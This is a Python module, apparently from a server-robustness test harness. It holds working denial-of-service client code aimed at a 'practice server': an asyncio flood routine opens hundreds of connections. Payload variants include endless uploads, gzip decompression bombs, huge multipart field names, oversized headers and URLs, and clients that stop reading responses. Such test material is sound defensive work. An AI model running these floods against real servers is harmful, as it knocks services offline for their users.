"""What hostile clients send to the practice server: each the body of `fetch_all`."""

# Opens many connections, sends something on each, and goes on with more of it.
FLOOD = """
from urllib.parse import urlsplit
where = urlsplit(urls[0])
async def flood(head, piece, times=10**9):
    writer = None
    try:
        reader, writer = await asyncio.open_connection(where.hostname, where.port)
        writer.write(head)
        for number in range(times):
            writer.write(piece(number) if callable(piece) else piece)
            await writer.drain()
            while reader._buffer:
                await reader.read(2**20)
        await asyncio.sleep(60)
    except OSError:
        pass
async def floods(count, *what):
    await asyncio.gather(*[flood(*what) for _ in range(count)])
HOST = b' HTTP/1.1\\r\\nHost: x\\r\\n'
LONG = b'Content-Length: 999999999\\r\\n\\r\\n'
"""

FLOODS = {
    "bodies that nobody reads": (
        "await floods(450, b'GET /hold/tea' + HOST + LONG, bytes(2**16))"
    ),
    "bodies to echo": (
        "head = b'POST /echo' + HOST + b'Content-Length: 1048575\\r\\n\\r\\n'\n"
        "await floods(450, head, b'\\0' * (2**16), 16)"
    ),
    "an endless upload": (
        "await floods(450, b'POST /upload' + HOST + LONG, bytes(2**16))"
    ),
    "an upload of many parts": (
        "head = b'POST /upload' + HOST\n"
        "head += b'Content-Type: multipart/form-data; boundary=x\\r\\n' + LONG\n"
        "part = b'--x\\r\\nContent-Disposition: form-data; name=\"'\n"
        "part += b'n' * 4000 + b'\"\\r\\n\\r\\n\\r\\n'\n"
        "await floods(20, head, part * 10)"
    ),
    "an upload that unfolds": (
        "import zlib\n"
        "zip = zlib.compressobj(9, wbits=31)\n"
        "fold = lambda: zip.compress(bytes(2**22)) + zip.flush(zlib.Z_FULL_FLUSH)\n"
        "head = b'POST /upload' + HOST + b'Content-Encoding: gzip\\r\\n' + LONG\n"
        "await floods(50, head + fold(), fold() * 10)"
    ),
    "a body to echo that unfolds": (
        "import zlib\n"
        "zip = zlib.compressobj(9, wbits=31)\n"
        "fold = lambda: zip.compress(bytes(2**22)) + zip.flush(zlib.Z_FULL_FLUSH)\n"
        "head = b'POST /echo' + HOST + b'Content-Encoding: gzip\\r\\n' + LONG\n"
        "await floods(50, head + fold(), fold() * 10)"
    ),
    "names without end": (
        "name = lambda n: (b'GET /word/%d' % n) + b'x' * 3000 + HOST + b'\\r\\n'\n"
        "many = lambda n: b''.join(name(n * 50 + i) for i in range(50))\n"
        "await floods(4, b'', many)"
    ),
    "gates without end": (
        "name = lambda n: (b'GET /gate/9?group=%d' % n) + b'x' * 3000"
        " + HOST + b'\\r\\n'\n"
        "await floods(450, b'', name)"
    ),
    "headers without end": (
        "await floods(450, b'GET /echo' + HOST, b'X: ' + b'x' * 1000 + b'\\r\\n')"
    ),
    "headers to echo": (
        "line = b'X: ' + b'\\xff' * 1000 + b'\\r\\n'\n"
        "whole = b'GET /echo' + HOST + line * 30 + b'\\r\\n'\n"
        "await floods(450, b'', whole)"
    ),
    "nobody reads what is answered": (
        "async def deaf():\n"
        "    reader, writer = await asyncio.open_connection(\n"
        "        where.hostname, where.port)\n"
        "    writer.transport.pause_reading()\n"
        "    writer.write(b'GET /bytes/99999999' + HOST + b'\\r\\n')\n"
        "    line = b'X: ' + b'x' * 1000 + b'\\r\\n'\n"
        "    writer.write((b'GET /echo' + HOST + line * 30 + b'\\r\\n') * 40)\n"
        "    await asyncio.sleep(60)\n"
        "await asyncio.gather(*[deaf() for _ in range(450)], return_exceptions=True)"
    ),
}
